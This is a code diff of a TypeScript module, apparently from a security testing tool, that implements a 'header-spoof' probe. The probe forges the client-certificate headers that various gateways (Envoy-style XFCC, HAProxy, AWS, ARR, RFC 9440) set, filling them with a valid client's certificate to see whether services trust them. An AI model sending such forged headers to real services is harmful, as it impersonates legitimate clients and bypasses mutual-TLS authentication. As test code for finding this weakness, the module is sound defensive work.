@@ -1,32 +1,75 @@
+import { oids } from "../../pki/oids.ts";
+import { encodePem } from "../../pki/pem.ts";
+import type { Certificate } from "../../pki/verify/certificate.ts";
+import { displayName, textsOf } from "../../pki/verify/name.ts";
 import { type Attack, asking } from "../attack.ts";
 import { ignoreHeaders } from "./fixes.ts";
 
-/** As the gateways that set them write them: for services that believe whoever sends them. */
-const FORGED = {
-  "x-forwarded-client-cert":
-    'By=spiffe://fleet.internal/gateway;Hash=0000000000000000000000000000000000000000000000000000000000000000;Subject="CN=fleetsec-probe";URI=spiffe://fleet.internal/fleetsec-probe',
-  "x-ssl-client": {
-    "x-ssl-client-verify": "SUCCESS",
-    "x-ssl-client-s-dn": "CN=fleetsec-probe",
-    "x-ssl-client-dn": "CN=fleetsec-probe",
-    "x-ssl-client-cn": "fleetsec-probe",
-    "x-ssl-client-serial": "01",
-    "ssl-client-verify": "SUCCESS",
-    "ssl-client-subject-dn": "CN=fleetsec-probe",
-  },
-} as const;
+type Fields = Readonly<Record<string, string>>;
 
-/** Each with the valid client's own certificate in it: what a service would look for. */
-function spoofs(pem: string, der: Uint8Array): readonly (readonly [kind: string, fields: Fields])[] {
-  const escaped = encodeURIComponent(pem);
+/**
+ * What gateways write about a client, as they write it: for services that believe whoever sends it. Each
+ * names a valid client and holds its certificate, which is public. One request for each gateway: a name may
+ * have another value with another one, and many services take 8 KiB of fields at most.
+ */
+function spoofs(client: Certificate): readonly (readonly [kind: string, fields: Fields])[] {
+  const { der, serial } = client;
+  const escaped = encodeURIComponent(encodePem("CERTIFICATE", der));
   const base64 = Buffer.from(der).toString("base64");
-  const { "x-forwarded-client-cert": xfcc, "x-ssl-client": ssl } = FORGED;
+  const subject = headerText(displayName(client.subject));
+  const issuer = headerText(displayName(client.issuer));
+  const name = headerText(textsOf(client.subject, oids.commonName)[0] ?? "fleetsec-probe");
+  const uri = client.subjectAltName?.find(({ type }) => type === "uri");
+  const uriText = headerText(uri?.type === "uri" ? uri.value : "spiffe://fleet.internal/fleetsec-probe");
+  const described = { "x-ssl-client-dn": subject, "x-ssl-client-cn": name, "x-ssl-client-serial": serial };
   return [
-    ["X-Forwarded-Client-Cert", { "x-forwarded-client-cert": `${xfcc};Cert="${escaped}"` }],
-    ["X-SSL-Client-*", { ...ssl, "x-ssl-client-cert": escaped, "ssl-client-cert": escaped }],
+    [
+      "X-Forwarded-Client-Cert",
+      {
+        "x-forwarded-client-cert": `By=spiffe://fleet.internal/gateway;Hash=${"0".repeat(64)};Subject="${subject}";URI=${uriText};Cert="${escaped}"`,
+      },
+    ],
+    [
+      "X-SSL-Client-*",
+      {
+        ...described,
+        "x-ssl-client-verify": "SUCCESS",
+        "x-ssl-client-s-dn": subject,
+        "x-ssl-client-i-dn": issuer,
+        "x-ssl-client-cert": escaped,
+      },
+    ],
+    // 0 is how HAProxy says that nothing is wrong
+    [
+      "X-SSL-Client-* of HAProxy",
+      {
+        ...described,
+        "x-ssl": "1",
+        "x-ssl-client": "1",
+        "x-ssl-client-used": "1",
+        "x-ssl-client-verify": "0",
+        "x-ssl-client-der": base64,
+        "x-ssl-client-cert": base64,
+      },
+    ],
+    [
+      "SSL-Client-*",
+      {
+        "ssl-client-verify": "SUCCESS",
+        "ssl-client-subject-dn": subject,
+        "ssl-client-issuer-dn": issuer,
+        "ssl-client-cert": escaped,
+      },
+    ],
     [
       "X-Client-Cert",
-      { "x-client-cert": escaped, "x-client-verify": "SUCCESS", "x-client-dn": "CN=fleetsec-probe" },
+      {
+        "x-client-cert": escaped,
+        "x-client-verify": "SUCCESS",
+        "x-client-dn": subject,
+        "x-client-cert-present": "true",
+        "x-client-cert-chain-verified": "true",
+      },
     ],
     // RFC 9440, section 2.1
     ["Client-Cert", { "client-cert": `:${base64}:` }],
@@ -34,13 +77,25 @@ function spoofs(pem: string, der: Uint8Array): readonly (readonly [kind: string,
       "X-Forwarded-Tls-Client-Cert",
       {
         "x-forwarded-tls-client-cert": encodeURIComponent(base64),
-        "x-forwarded-tls-client-cert-info": encodeURIComponent('Subject="CN=fleetsec-probe"'),
+        "x-forwarded-tls-client-cert-info": encodeURIComponent(`Subject="${subject}"`),
       },
     ],
+    [
+      "X-Amzn-Mtls-Clientcert",
+      {
+        "x-amzn-mtls-clientcert": escaped,
+        "x-amzn-mtls-clientcert-leaf": escaped,
+        "x-amzn-mtls-clientcert-subject": subject,
+        "x-amzn-mtls-clientcert-issuer": issuer,
+        "x-amzn-mtls-clientcert-serial-number": serial,
+      },
+    ],
+    ["X-ARR-ClientCert", { "x-arr-clientcert": base64 }],
   ];
 }
 
-type Fields = Readonly<Record<string, string>>;
+/** What stands in a certificate must not write a field of its own. */
+const headerText = (text: string) => text.replaceAll(/[^\u0020-\u007e]/g, "?");
 
 export const headerSpoof: Attack = {
   id: "header-spoof",
@@ -58,7 +113,7 @@ export const headerSpoof: Attack = {
     const [leaf] = forgery.control?.chain ?? [];
     if (leaf === undefined)
       return { outcome: "not-run", reason: "needs a valid client's certificate, which it names" };
-    const attempts = spoofs(forgery.control?.certificates ?? "", leaf.der).map(([kind, fields]) =>
+    const attempts = spoofs(leaf).map(([kind, fields]) =>
       asking(ask({ ...request, fields: [...request.fields, ...Object.entries(fields)] }), kind),
     );
     return { attempts };
